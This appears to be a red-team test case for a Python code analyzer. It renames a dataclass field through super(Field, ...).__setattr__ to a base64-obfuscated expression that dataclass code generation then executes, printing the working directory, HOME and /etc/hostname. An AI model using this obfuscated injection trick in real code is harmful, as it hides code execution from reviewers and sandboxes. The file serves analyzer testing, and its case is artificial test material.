# family: red team, round 51a (super(Field, f).__setattr__ is recorded as a store on the method's own self)
import base64
import dataclasses


@dataclasses.dataclass
class A:
    x: int = 0


PAYLOAD = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()


class Namer:
    def rename(self, target, value):
        super(dataclasses.Field, target).__setattr__("name", value)


Namer().rename(dataclasses.fields(A)[0], PAYLOAD)


@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass


print(B() == B())
